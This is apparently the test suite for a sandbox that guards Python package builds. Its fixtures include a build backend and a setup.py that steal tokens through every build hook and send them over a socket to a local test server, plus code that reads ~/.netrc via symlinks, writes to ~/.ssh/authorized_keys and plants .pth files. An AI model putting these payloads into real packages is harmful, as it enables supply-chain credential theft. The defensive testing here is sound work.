"""The guard against builds that attack: what each gets without it, and nothing with it.

One sdist holds all attacks of ``tests/attacks``, each run in a process of its own (`guarded`).  An
unmodified pip installs it twice on each interpreter: stock, where each attack must be seen to work,
and guarded without a terminal, where each must be refused and the build must go on.  Each attack
runs on one version in turn, and on all with ``--full``.
"""

from __future__ import annotations

import ast
import dataclasses
import functools
import json
import re
import shutil
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import environments
import guarded
import pytest
from conftest import need
from environments import Environment
from guarded import Attack, Outcome, Run, Servers
from installers import Builder, make_once
from interpreters import VERSIONS

if sys.platform == "win32":
    pytest.skip("the guard is not for Windows", allow_module_level=True)

IN_TURN = ("3.10", "3.13", "3.15")
# What only some versions have.
TURNS = {
    "native_readers@spwd": "3.10",
    "starts_unseen@another name": "3.15",
    "remote_exec": "3.15",
    "subinterpreter@concurrent": "3.15",
    "subinterpreter@pool": "3.15",
    "subinterpreter@legacy": "3.13",
    "subinterpreter@_testinternalcapi": "3.13",
    "test_module@_xxsubinterpreters": "3.10",
    "test_module@_interpreters": "3.13",
    "test_module@_testlimitedcapi": "3.13",
    "poisoned_start@trampoline": "3.13",
    "poisoned_start@-X perf": "3.15",
    "poisoned_start@PYTHONPERFSUPPORT": "3.13",
    # What takes the collector, and frames as they are from 3.11 on.
    "called_from_c@collector": "3.13",
    "called_from_c@collector of globals": "3.15",
    "watch_the_guard@monitoring": "3.13",
    "watch_the_guard@monitoring raises": "3.15",
}

# What no audit hook of Python's can keep a build from, and why.  Each is shown to work, guarded.
UNCAUGHT: dict[str, str] = {
    "native_code@plugin": "a compiler loads machine code that the build has made",
    "tool_runs@make": "a Makefile has make run anything",
    "tool_runs@cmake": "so does a script of cmake's",
    "tool_runs@ninja": "so does a file of ninja's",
    "tool_runs@gcc -wrapper": "the compiler runs what it is told to",
    "tool_runs@gcc -B": "the compiler's parts may lie anywhere",
    "tool_runs@gcc includes": "a compiler reads what a source includes",
    "tool_runs@gcc options": "and what it is told to by a file",
    "tool_runs@gcc writes": "and writes where it is told to",
    "tool_runs@ar": "so does an archiver",
    "tool_runs@git reads": "so does git",
    "tool_runs@meson": "meson's checks are programs of the build's own",
    "listen@unbound": "Python tells no audit hook of it",
    "poisoned_start@GIT_EXTERNAL_DIFF": "git runs what a variable names",
    "swap": "what a name leads to can change between check and use",
    "probe@os.stat": "Python tells no audit hook of it",
    "probe@os.access": "Python tells no audit hook of it",
    "probe@os.path.exists": "Python tells no audit hook of it",
    "probe@os.readlink": "Python tells no audit hook of it",
    "probe@os.mkfifo": "Python tells no audit hook of it",
    "probe@os.mknod": "Python tells no audit hook of it",
    "probe@os.environ": "a build has the variables that it was started with",
}
# What gets nothing, and is not told so where the test can see it.
SILENT = {
    *(f"at_exit@{way}" for way in ("codec", "codec's function", "error handler", "before fork")),
    *(f"at_exit@{way}" for way in ("after fork", "context", "asyncgen", "__main__", "no room")),
    *("native_code@preload", "child_python@PYTHONHOME"),  # the variables are taken away
    *("nested_pip@-m pip", "nested_pip@pip's script"),
    *("connect@logging", "subinterpreter@pool", "preexec@walk", "preexec@exec", "read_with@import"),
    *("run_program@os.spawnv", "run_program@os.spawnlp", "run_program@webbrowser"),
    "nested_pip@inside",
    "hunt@wrappers",  # it breaks what it calls
    # Neither does the child read what it was to be given.
    *("changing_words@actions", "changing_words@actions p"),
    "changing_words@link",  # what it led to is run
    # The variables are taken away; the compiler itself is started.
    *("poisoned_start@PYTHONWARNINGS", "poisoned_start@LD_DEBUG_OUTPUT"),
    *("poisoned_start@PYTHONPERFSUPPORT", "poisoned_start@OPENSSL_CONF"),
    *("run_program@from another folder", "run_program@from another cwd"),
    *("find_key@variables", "find_key@objects", "find_key@frames"),  # it is in none of these
    *("lookup@codec", "lookup@codec, _socket"),  # it is not asked
}


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """Give each test of attacks its own, with their version in turn, or with all."""
    if "attack" not in metafunc.fixturenames:
        return
    is_uncaught = metafunc.function is test_what_cannot_be_caught
    cases = []
    for number, attack in enumerate(guarded.all_attacks()):
        turn = TURNS.get(str(attack), IN_TURN[number % len(IN_TURN)])
        versions = VERSIONS if metafunc.config.getoption("--full") else (turn,)
        if (str(attack) in UNCAUGHT) == is_uncaught:
            cases += [pytest.param(attack, v, id=f"{attack}-{v}") for v in versions]
    metafunc.parametrize("attack, version", cases)


@dataclass(frozen=True)
class Runs:
    """The two installations on a version: stock, and guarded."""

    stock: Run
    guarded: Run


def of_session(request: pytest.FixtureRequest, version: str) -> list[Attack]:
    """Return the attacks of the tests that were chosen for a version, in one order."""
    chosen = set()
    for item in request.session.items:
        given = item.callspec.params if hasattr(item, "callspec") else {}
        if given.get("version") == version and isinstance(given.get("attack"), Attack):
            chosen.add(given["attack"])
    return [attack for attack in guarded.all_attacks() if attack in chosen]


def install_both(folder: Path, version: str, packages: Path, attacks: list[Attack]) -> None:
    """Install the sdist that attacks, stock and guarded; write down what came of it."""
    for kind, launcher in {"stock": (), "guarded": guarded.launched()}.items():
        environment = environments.make(need(version), folder / kind)
        guarded.equip(environment, packages)
        run = guarded.attacked(environment, attacks, *launcher)
        (folder / f"{kind}.json").write_text(json.dumps(dataclasses.asdict(run)))


def read_run(path: Path) -> Run:
    """Return a run that was written down."""
    told = json.loads(path.read_text())
    outcomes = {name: Outcome(**outcome) for name, outcome in told.pop("outcomes").items()}
    return Run(**told, outcomes=outcomes)


@functools.cache
def read_runs(folder: Path) -> Runs:
    """Return both runs on a version."""
    return Runs(*(read_run(folder / f"{kind}.json") for kind in ("stock", "guarded")))


@pytest.fixture
def runs(version: str, request: pytest.FixtureRequest, shared: Path, builder: Builder) -> Runs:
    """The installations on a version, made once for all workers and tests."""
    folder = shared / f"attacked-{version.replace('.', '-')}"  # make_once adds a suffix
    if not (folder.with_suffix(".done")).exists():
        attacks = of_session(request, version)
        make_once(folder, lambda: install_both(folder, version, builder.pip.parent, attacks))
    return read_runs(folder)


def outcomes(runs: Runs, attack: Attack) -> tuple[Outcome, Outcome]:
    """Return what came of an attack in both runs; skip where this machine does not have it."""
    assert str(attack) in runs.stock.outcomes, runs.stock.output
    assert str(attack) in runs.guarded.outcomes, runs.guarded.output
    stock, other = runs.stock.outcomes[str(attack)], runs.guarded.outcomes[str(attack)]
    if stock.is_unavailable:
        pytest.skip(stock.said.strip())
    return stock, other


def test_attack_is_refused(attack: Attack, version: str, runs: Runs) -> None:
    stock, other = outcomes(runs, attack)
    assert stock.happened, f"stock {version}: {stock}"
    assert not other.happened, str(other)
    assert other.is_refused or str(attack) in SILENT, str(other)
    assert runs.guarded.code == 0, runs.guarded.output  # the build went on


def test_what_cannot_be_caught(attack: Attack, version: str, runs: Runs) -> None:
    stock, other = outcomes(runs, attack)
    assert stock.happened, f"stock {version}: {stock}"
    assert other.happened, f"it is caught now: take it off UNCAUGHT\n{other}"


@pytest.mark.parametrize("version", IN_TURN)
def test_the_standard_library_may_be_imported(runs: Runs) -> None:
    assert runs.stock.missed == runs.guarded.missed == {}


def test_each_exception_is_an_attack() -> None:
    names = {str(attack) for attack in guarded.all_attacks()}
    assert {*UNCAUGHT, *SILENT, *TURNS} <= names


# Each hook of a build, and each command of setup.py, steals by itself.

STEAL = """\
import os
import socket


def steal(place):
    token = {tokens}[place]
    for act in (lambda: open({markers} + "/" + token, "w").close(), lambda: send(token)):
        try:
            act()
        except OSError as error:
            print(f"{{type(error).__name__}}: {{error}}")


def send(token):
    with socket.create_connection({address}) as connection:
        connection.sendall(token.encode())
"""

BACKEND = """\
import os
import zipfile
from steal import steal

steal("import")
METADATA = {
    "METADATA": "Metadata-Version: 2.1\\nName: thief\\nVersion: 1.0\\n",
    "WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
}


def hooks(what):
    def requires(config_settings=None):
        steal(f"get_requires_for_build_{what}")
        return []

    def prepare(metadata_directory, config_settings=None):
        steal(f"prepare_metadata_for_build_{what}")
        folder = os.path.join(metadata_directory, "thief-1.0.dist-info")
        os.mkdir(folder)
        for name, text in METADATA.items():
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        return "thief-1.0.dist-info"

    def build(wheel_directory, config_settings=None, metadata_directory=None):
        steal(f"build_{what}")
        name = "thief-1.0-py3-none-any.whl"
        with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
            for member, text in METADATA.items():
                wheel.writestr(f"thief-1.0.dist-info/{member}", text)
            wheel.writestr("thief-1.0.dist-info/RECORD", "")
        return name

    return requires, prepare, build


(
    get_requires_for_build_wheel,
    prepare_metadata_for_build_wheel,
    build_wheel,
) = hooks("wheel")
(
    get_requires_for_build_editable,
    prepare_metadata_for_build_editable,
    build_editable,
) = hooks("editable")
"""

SETUP = """\
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from setuptools import setup
from setuptools.command.build_py import build_py
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install
from steal import steal

steal("setup.py")


def stealing(command):
    class Stealing(command):
        def run(self):
            steal(command.__name__)
            super().run()

    return Stealing


commands = (build_py, develop, egg_info, install)
setup(
    name="thief",
    version="1.0",
    py_modules=["thief"],
    cmdclass={command.__name__: stealing(command) for command in commands},
    setup_requires=SETUP_REQUIRES,
)
"""

IN_TREE = {
    "pyproject.toml": "[build-system]\nrequires = []\n"
    'build-backend = "backend"\nbackend-path = ["."]\n',
    "backend.py": BACKEND,
}
OLD = {"setup.py": SETUP.replace("SETUP_REQUIRES", "[]"), "thief.py": ""}
REQUIRING = {
    **OLD,
    "setup.py": SETUP.replace("SETUP_REQUIRES", "['accomplice']"),
    "setup.cfg": "[easy_install]\nfind_links = {work}\n",
}
ACCOMPLICE = {
    "setup.py": SETUP.replace("SETUP_REQUIRES", "[]")
    .replace("thief", "accomplice")
    .replace('"setup.py"', '"setup_requires"'),
    "accomplice.py": "",
}
NEW_PIP = ("pip >=26,<27", "setuptools ==80.9.0")
OLD_PIP = ("pip ==24.0", "setuptools ==69.5.1", "wheel ==0.43.0")
PIP = "-m pip --disable-pip-version-check"
OFFLINE = "--no-index --no-cache-dir --find-links {work}"
IN_PLACE = "--no-build-isolation"


@dataclass(frozen=True)
class Theft:
    """A project, a command, and the places of the project that it runs."""

    files: Mapping[str, str]
    run: str
    places: tuple[str, ...]
    requires: tuple[str, ...] = NEW_PIP
    default: str = ""  # the version it also runs on without --full
    versions: tuple[str, ...] = VERSIONS
    unpacked: bool = False
    goes_on: bool = True  # False: what it is for is refused too, such as site-packages


WHEEL_HOOKS = ("get_requires_for_build_wheel", "prepare_metadata_for_build_wheel")
EDITABLE_HOOKS = ("get_requires_for_build_editable", "prepare_metadata_for_build_editable")
OLD_ON = ("3.10", "3.11", "3.12", "3.13")  # of pip 24 and its setuptools
COMMANDS = ("setup.py", "egg_info", "build_py", "install", "develop")
PLACES = (
    *("import", *WHEEL_HOOKS, "build_wheel", *EDITABLE_HOOKS, "build_editable"),
    *(*COMMANDS, "setup_requires"),
)
THEFTS = {
    "hooks, install": Theft(
        IN_TREE, f"{PIP} install {OFFLINE} {{sdist}}", ("import", *WHEEL_HOOKS, "build_wheel")
    ),
    "hooks, editable": Theft(
        IN_TREE,
        f"{PIP} install {OFFLINE} -e {{folder}}",
        ("import", *EDITABLE_HOOKS, "build_editable"),
        unpacked=True,
    ),
    "hooks, download": Theft(
        IN_TREE,
        f"{PIP} download {OFFLINE} -d {{work}} {{sdist}}",
        ("import", *WHEEL_HOOKS),
        default="3.13",
    ),
    "hooks, wheel": Theft(
        IN_TREE,
        f"{PIP} wheel {OFFLINE} -w {{work}} {{sdist}}",
        ("import", *WHEEL_HOOKS, "build_wheel"),
    ),
    "setuptools, install": Theft(
        OLD,
        f"{PIP} install {OFFLINE} {IN_PLACE} {{sdist}}",
        ("setup.py", "egg_info", "build_py"),
    ),
    "setuptools, editable": Theft(
        OLD,
        f"{PIP} install {OFFLINE} {IN_PLACE} -e {{folder}}",
        ("setup.py", "egg_info"),
        unpacked=True,
    ),
    "old way, setup_requires": Theft(
        REQUIRING,
        f"{PIP} install {OFFLINE} {IN_PLACE} --no-use-pep517 {{sdist}}",
        ("setup.py", "setup_requires"),
        OLD_PIP,
        versions=OLD_ON,
        goes_on=False,
    ),
    "old way, install": Theft(
        OLD,
        f"{PIP} install {OFFLINE} {IN_PLACE} --no-use-pep517 {{sdist}}",
        ("setup.py", "egg_info", "install"),
        OLD_PIP,
        default="3.10",
        versions=OLD_ON,
    ),
    "old way, editable": Theft(
        OLD,
        f"{PIP} install {OFFLINE} {IN_PLACE} --no-use-pep517 -e {{folder}}",
        ("setup.py", "egg_info", "develop"),
        OLD_PIP,
        versions=OLD_ON,
        unpacked=True,
        goes_on=False,
    ),
    "old way, download": Theft(
        OLD,
        f"{PIP} download {OFFLINE} {IN_PLACE} --no-use-pep517 -d {{work}} {{sdist}}",
        ("setup.py", "egg_info"),
        OLD_PIP,
        versions=OLD_ON,
    ),
    "setup.py install": Theft(
        OLD,
        "{folder}/setup.py install --single-version-externally-managed --record {folder}/record",
        ("setup.py", "install", "egg_info", "build_py"),
        OLD_PIP,
        versions=OLD_ON,
        unpacked=True,
        goes_on=False,
    ),
}


def thefts() -> list[object]:
    """Return each theft on each of its versions; without --full some on one."""
    return [
        pytest.param(
            theft,
            version,
            marks=() if version == theft.default else pytest.mark.full,
            id=f"{name}-{version}",
        )
        for name, theft in THEFTS.items()
        for version in theft.versions
    ]


@pytest.mark.parametrize("theft, version", thefts())
def test_each_part_of_a_build_is_guarded(
    theft: Theft, version: str, builder: Builder, tmp_path: Path
) -> None:
    for launcher in ((), guarded.launched()):
        environment = environments.make(
            need(version), tmp_path / ("guarded" if launcher else "stock")
        )
        uv = (builder.uv, "pip", "install", "--quiet", "--python", environment.python)
        builder.run("the installer", *uv, *theft.requires)
        stolen, code, said = steal_once(environment, theft, launcher)
        assert code == 0 or (launcher and not theft.goes_on), said
        assert set(theft.places) <= stolen if not launcher else not stolen, (stolen, said)


def steal_once(
    environment: Environment, theft: Theft, launcher: tuple[str, ...]
) -> tuple[set[str], int, str]:
    """Run the command; return the places that got what they wanted, its code, what it said."""
    tokens = {place: guarded.token() for place in PLACES}
    work = environment.work
    with Servers(environment.root) as servers:
        steal = STEAL.format(
            tokens=tokens, markers=repr(str(environment.markers)), address=servers.tcp.getsockname()
        )
        files = {**theft.files, "steal.py": steal}
        files["setup.cfg"] = theft.files.get("setup.cfg", "").format(work=work)
        names = {"sdist": guarded.sdist(work, "thief", "1.0", files)}
        guarded.sdist(work, "accomplice", "1.0", {**ACCOMPLICE, "steal.py": steal})
        if theft.unpacked:
            names["folder"] = guarded.unpacked(names["sdist"], environment.root)
        words = theft.run.format(work=work, **names).split()
        words = [str(environment.python), *launcher, *words]
        code, said = guarded.start(environment, *words, PIP_NO_INDEX="1")
        seen = bytes(servers.received).decode("latin-1") + " ".join(environment.ran())
    return {place for place, token in tokens.items() if token in seen}, code, said


# What concerns whole projects, and what the guard does before it watches.


def leaves(name: str) -> str:
    """Return code that leaves a marker."""
    return f"import os\nopen(os.environ['MARKERS'] + '/{name}', 'w').close()\n"


ONLY = [pytest.param(v, marks=() if v == "3.13" else pytest.mark.full) for v in IN_TURN]
# What has modules imported before a script runs: its encoding, and a warning about its text.
EARLY_SETUP = '# coding: idna\nx = "\\d"\n' + leaves("setup")


@pytest.mark.parametrize("version", ONLY)
def test_no_module_of_a_project_runs_before_it_is_guarded(version: str, tmp_path: Path) -> None:
    environment = environments.make(need(version), tmp_path)
    never = {"builtins", "sys", "os", "io", "posix"}  # they are there already
    files = {f"{name}.py": leaves(name) for name in sys.stdlib_module_names - never}
    setup = (
        guarded.write_files(tmp_path / "project", {**files, "setup.py": EARLY_SETUP}) / "setup.py"
    )
    guarded.start(environment, environment.python, setup)
    assert "stringprep" in environment.ran()
    _, said = guarded.start(environment, environment.python, *guarded.launched(), setup)
    assert environment.ran() == []
    assert "wants to write" in said


INSTALLERS = ("-m pip --version", "-mpip --version", "-m pip.__main__ --version", "-m venv -h")


@pytest.mark.parametrize("version", ONLY)
def test_an_installer_is_not_taken_from_where_it_is_started(version: str, tmp_path: Path) -> None:
    environment = environments.make(need(version), tmp_path)
    names = ("pip/__init__.py", "pip/__main__.py", "argparse.py")
    guarded.write_files(environment.work, {name: leaves("ran") for name in names})
    for words in map(str.split, INSTALLERS):
        guarded.start(environment, environment.python, *words)
        assert environment.ran() == ["ran"]
        guarded.start(environment, environment.python, *guarded.launched(), *words)
        assert environment.ran() == []


# What a project of the user's own tries, in which its environments lie.
CHECKOUT = """\
import hashlib
import os
import subprocess
import sys

here = os.path.dirname(os.path.abspath(__file__))
os.chdir(here)


def git():
    os.makedirs("other/hooks")
    os.rename("other", ".git")


def above():
    os.rename(".tox", "gone")
    os.rename("gone", ".tox")


def itself():
    os.rename(".tox/venv", "gone")
    os.rename("gone", ".tox/venv")


def another():
    os.rename("env/py", "gone")
    os.rename("gone", "env/py")


def parent():
    os.rename("env", "gone")


def policy():
    site = f"x/base/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    for folder in (site, "x/config/safesite"):
        os.makedirs(folder, 0o700)
    line = "import os; open('ran', 'w')"
    with open(site + "/evil.pth", "w") as file:
        file.write(line + "\\n")
    with open("x/config/safesite/policy", "w") as file:
        file.write(f"allow-line evil.pth line={hashlib.sha256(line.encode()).hexdigest()}\\n")
    os.chmod("x/config/safesite/policy", 0o600)
    more = {"PYTHONUSERBASE": here + "/x/base", "XDG_CONFIG_HOME": here + "/x/config"}
    subprocess.run([sys.executable, "-c", "pass"], env=os.environ | more)
    os.stat("ran")


for act in (git, above, itself, policy, another, parent):
    try:
        act()
        print(act.__name__, "happened")
    except OSError as error:
        print(act.__name__, error)
"""


@pytest.mark.parametrize("version", ONLY)
def test_a_project_in_which_environments_lie(version: str, trusted_folder: Path) -> None:
    """Neither hooks of git's, nor an environment, nor a policy are the build's."""
    names = ("git", "above", "itself", "policy", "another", "parent")
    for name, launcher in {"stock": (), "guarded": guarded.launched()}.items():
        project, home = trusted_folder / name / "project", trusted_folder / name / "home"
        files = {"setup.py": CHECKOUT, "env/py/pyvenv.cfg": "", "env/py/bin/x": ""}
        setup = guarded.write_files(project, files) / "setup.py"
        home.mkdir()
        environment = environments.make(
            need(version), project / ".tox", system_site=True, HOME=str(home)
        )
        _, said = guarded.start(environment, environment.python, *launcher, setup)
        happened = {act for act in names if f"{act} happened" in said}
        assert happened == (set() if launcher else set(names)), said


@pytest.mark.parametrize("version", ONLY)
def test_a_copied_python_is_guarded(version: str, tmp_path: Path) -> None:
    """An environment that was made with copies, in which a runner builds."""
    environment = environments.make(need(version), tmp_path)
    other = environments.make(need(version), tmp_path / "other")
    other.python.unlink()
    shutil.copy(environment.interpreter.path.resolve(), other.python)
    setup = guarded.write_files(tmp_path / "project", {"setup.py": leaves("ran")}) / "setup.py"
    code = f"import subprocess\nsubprocess.run([{str(other.python)!r}, {str(setup)!r}])"
    variables = {
        "LD_LIBRARY_PATH": str(environment.interpreter.path.resolve().parent.parent / "lib")
    }
    guarded.start(environment, environment.python, "-c", code, **variables)
    assert environment.ran() == ["ran"]
    guarded.start(environment, environment.python, *guarded.launched(), "-c", code, **variables)
    assert environment.ran() == []


LINKED = """\
import os

link = os.path.join(os.path.dirname(os.path.abspath(__file__)), "link")
os.symlink({!r}, link)
with open(link) as file:
    raise RuntimeError(file.read())
"""


@pytest.mark.parametrize("version", ONLY)
def test_a_pip_in_a_zip_file_that_downloads(version: str, builder: Builder, tmp_path: Path) -> None:
    """Its runner of hooks is a temporary file, and what it has downloaded lies in TMPDIR."""
    environment = environments.make(need(version), tmp_path)
    work, secret = environment.work, guarded.token()
    guarded.write_files(environment.home, {".netrc": secret})
    archive = shutil.make_archive(str(work / "pip"), "zip", builder.pip.parent, "pip")
    netrc = str(environment.home / ".netrc")
    guarded.sdist(work, "thief", "1.0", {**IN_TREE, "backend.py": LINKED.format(netrc)})
    words = f"{archive}/pip install --no-index --no-cache-dir --find-links {work} thief".split()
    _, said = guarded.start(environment, environment.python, *words)
    assert secret in said, said
    _, said = guarded.start(environment, environment.python, *guarded.launched(), *words)
    assert secret not in said, said
    assert "wants to read" in said


# What stands where the guard would look at no link, or where the next hook is given a folder.
IN_PLACES = """\
import os
import sys

home, *places = sys.argv[1:]
for place in places:
    try:
        if os.path.isfile(place):
            os.remove(place)
        os.makedirs(place, exist_ok=True)
        os.symlink(home, place + "/link")
        print("read", os.path.basename(place), open(place + "/link/letter").read())
    except OSError as error:
        print(error)
"""


@pytest.mark.parametrize("version", ONLY)
def test_a_link_where_python_has_found_code(version: str, tmp_path: Path) -> None:
    """Of the script, of a folder of the project, and of one that was not there yet."""
    environment = environments.make(need(version), tmp_path)
    guarded.write_files(environment.home, {"letter": guarded.token()})
    project = environment.root / "project"
    places = [project / "setup.py", project / "src", environment.root / "tmp" / "later"]
    path = ":".join(map(str, places[1:]))
    for launcher in ((), guarded.launched()):
        setup = guarded.write_files(project, {"setup.py": IN_PLACES, "src/x.py": ""}) / "setup.py"
        words: list[str | Path] = [*launcher, setup, environment.home, *places]
        _, said = guarded.start(environment, environment.python, *words, PYTHONPATH=path)
        found = re.findall("read ([^ ]*) token", said)
        assert found == ([] if launcher else [place.name for place in places]), said
        shutil.rmtree(project)
        shutil.rmtree(places[-1])


# An installer of these tests' own, which runs two hooks.
INSTALLER = """\
import os
import sys

from pip._vendor.pyproject_hooks import BuildBackendHookCaller

os.chdir(sys.argv[1])
hooks = BuildBackendHookCaller(os.getcwd(), "backend", ["."])
hooks.get_requires_for_build_sdist()
os.makedirs("dist", exist_ok=True)
hooks.build_sdist(os.path.abspath("dist"))
"""

BETWEEN_HOOKS = """\
import os
import shutil
import tempfile

here = os.path.dirname(os.path.abspath(__file__))
temp = tempfile.gettempdir()


def attempt(act, *args):
    try:
        act(*args)
    except OSError as error:
        print(error)


def folder_of_hook():
    os.symlink({keys!r}, "dist")


def project():
    shutil.copy("backend.py", temp)
    os.rename(here, os.path.join(temp, "before"))
    os.symlink(temp, here)


def write(path):
    with open(path, "a") as file:
        file.write({token!r})


def get_requires_for_build_sdist(config_settings=None):
    attempt({way})
    return []


def build_sdist(sdist_directory, config_settings=None):
    attempt(write, os.path.join(sdist_directory, "authorized_keys"))
    attempt(write, os.path.join({other!r}, "setup.py"))
    return "x"
"""


@pytest.mark.parametrize("version", ONLY)
@pytest.mark.parametrize("way", ["folder_of_hook", "project"])
def test_a_link_where_the_next_hook_is(
    way: str, version: str, builder: Builder, tmp_path: Path
) -> None:
    """In the place of the folder that it writes into, or of the project."""
    for launcher in ((), guarded.launched()):
        folder = tmp_path / ("guarded" if launcher else "stock")
        environment = environments.make(need(version), folder)
        guarded.equip(environment, builder.pip.parent)
        guarded.write_files(
            environment.site_packages / "build", {"__init__.py": "", "__main__.py": INSTALLER}
        )
        other, token = environment.root / "tmp" / "pip-req-build-other", guarded.token()
        victims = [environment.home / ".ssh" / "authorized_keys", other / "setup.py"]
        for victim in victims:
            guarded.write_files(victim.parent, {victim.name: ""})
        names = {"keys": str(victims[0].parent), "other": str(other), "token": token, "way": way}
        project = environment.root / "project"
        guarded.write_files(project, {**IN_TREE, "backend.py": BETWEEN_HOOKS.format(**names)})
        words: list[str | Path] = [*launcher, "-m", "build", project]
        _, said = guarded.start(environment, environment.python, *words)
        changed = [victim.name for victim in victims if token in victim.read_text()]
        assert bool(changed) != bool(launcher), (changed, said)


# What the files of the hook do not do, as others could have it run code of theirs in their frames.


def nodes() -> list[ast.AST]:
    """Return all that the hook's files are made of."""
    paths = sorted((environments.PACKAGE / "watch").glob("*.py"))
    assert len(paths) > 4
    return [node for path in paths for node in ast.walk(ast.parse(path.read_text("utf-8")))]


def test_the_hook_has_no_class() -> None:
    """Each would be among the subclasses of object."""
    assert not [ast.unparse(node) for node in nodes() if isinstance(node, ast.ClassDef)]


def test_the_hook_uses_no_codec_that_can_be_replaced() -> None:
    """In development mode all others, and in each mode all other handlers of errors, are asked."""
    calls = [node for node in nodes() if isinstance(node, ast.Call)]
    named = [x for x in calls if isinstance(x.func, ast.Attribute)]
    given = {
        tuple(map(ast.unparse, call.args))
        for call in named
        if call.func.attr in ("encode", "decode")  # type: ignore[attr-defined]
    }
    known = {"'utf-8'", "'ascii'", "'strict'", "'replace'", "'surrogateescape'", "host"}
    assert given
    assert not [words for words in given if not known.issuperset(words)]
